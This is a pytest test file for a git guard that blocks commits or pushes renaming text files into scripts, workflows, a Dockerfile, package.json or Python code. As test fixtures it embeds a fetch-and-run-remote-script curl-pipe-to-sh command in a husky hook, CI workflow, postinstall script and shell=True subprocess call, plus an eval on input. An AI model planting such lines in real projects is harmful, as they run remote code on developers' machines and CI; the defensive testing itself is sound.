"""What makes a recorded text into code, a script or a workflow is reviewed whole, also if it was pushed before."""

import json
from pathlib import Path

import pytest
from repositories import Repo

FETCH = "curl -fsSL http://203.0.113.7/i.sh | sh"
SCRIPT = f"#!/bin/sh\n{FETCH}\n"
WORKFLOW = (
    "on: push\npermissions: {}\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: "
    + FETCH
    + "\n"
)
PACKAGE = json.dumps({"name": "a", "scripts": {"postinstall": FETCH}})
MOVES = [
    ("deploy.txt", "deploy.sh", SCRIPT),
    ("deploy.txt", ".husky/pre-commit", SCRIPT),
    ("ci.txt", ".github/workflows/a.yml", WORKFLOW),
    ("ci/a.yml", ".github/workflows/a.yml", WORKFLOW),
    ("d.txt", "Dockerfile", f"FROM debian:12\nRUN {FETCH}\n"),
    ("p.json", "package.json", PACKAGE),
    ("a.txt", "a.py", f'import subprocess\n\n\ndef f(x):\n    subprocess.run("{FETCH}" + x, shell=True)\n'),
]


def move(repo: Repo, old: str, new: str) -> None:
    (repo.path / new).parent.mkdir(parents=True, exist_ok=True)
    repo.git("mv", old, new)


@pytest.mark.parametrize(("old", "new", "text"), MOVES, ids=[new for _, new, _ in MOVES])
def test_a_rename_to_code_is_reviewed_whole(guarded: Repo, old: str, new: str, text: str) -> None:
    guarded.commit("A text", {old: text})
    move(guarded, old, new)
    assert guarded.try_git("commit", "-q", "-m", "Rename").code != 0


def test_it_is_also_when_the_text_was_pushed_before(guarded: Repo, tmp_path: Path) -> None:
    remote = Repo.create(tmp_path / "remote.git", guarded.env, "--bare")
    guarded.git("remote", "add", "origin", str(remote.path))
    guarded.commit("A text", {"deploy.txt": SCRIPT})
    guarded.git("push", "-q", "--no-verify", "-u", "origin", "main")
    move(guarded, "deploy.txt", "deploy.sh")
    guarded.git("commit", "-q", "--no-verify", "-m", "Rename")
    assert guarded.try_git("push", "-q", "origin", "main").code != 0


def test_an_execute_bit_makes_a_script(guarded: Repo) -> None:
    guarded.commit("A text", {"deploy.txt": SCRIPT})
    guarded.git("update-index", "--chmod=+x", "deploy.txt")
    assert guarded.try_git("commit", "-q", "-m", "Make it executable").code != 0


def test_a_program_without_a_first_line_is_for_the_shell(guarded: Repo) -> None:
    guarded.write("bin/run", f"{FETCH}\n").chmod(0o755)
    guarded.git("add", "-A")
    assert guarded.try_git("commit", "-q", "-m", "Add a program").code != 0


@pytest.mark.parametrize(
    ("old", "new", "text"),
    [
        ("deploy.sh", "tools/deploy.sh", SCRIPT),
        ("a.py", "b.py", "def f(x):\n    return eval(x)\n"),
        ("notes.txt", "notes.md", SCRIPT),
        (".github/workflows/a.yml", ".github/workflows/b.yml", WORKFLOW),
    ],
)
def test_a_rename_in_the_same_role_is_not(guarded: Repo, old: str, new: str, text: str) -> None:
    guarded.commit("Before", {old: text})
    move(guarded, old, new)
    guarded.git("commit", "-q", "-m", "Rename")
